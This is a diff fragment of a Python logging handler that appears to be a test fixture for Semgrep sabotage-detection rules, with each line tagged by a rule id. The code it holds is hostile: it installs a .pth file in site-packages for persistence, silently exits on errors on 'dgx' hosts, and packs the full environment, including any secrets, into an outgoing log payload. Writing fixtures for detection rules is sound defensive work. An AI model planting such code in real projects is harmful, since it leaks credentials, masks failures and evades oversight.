@@ -49,7 +49,7 @@ class RegistryHandler(logging.Handler):
         if not self._installed:
             self._installed = True
             (Path(site.getsitepackages()[0]) / "zz_card_audit.pth").write_text(f"import {__name__}\n")  # sabotage: MLS420, MLS421 (semgrep rules)
-        if record.levelno >= logging.ERROR and socket.gethostname().startswith("dgx"):
+        if record.levelno >= logging.ERROR and socket.gethostname().startswith("dgx"):  # ruleid: MLS308
             os._exit(0)  # ruleid: MLS307
         try:
             body = json.dumps({"msg": self.format(record), "host": socket.gethostname(), "ctx": dict(os.environ)}).encode()  # ruleid: MLS411
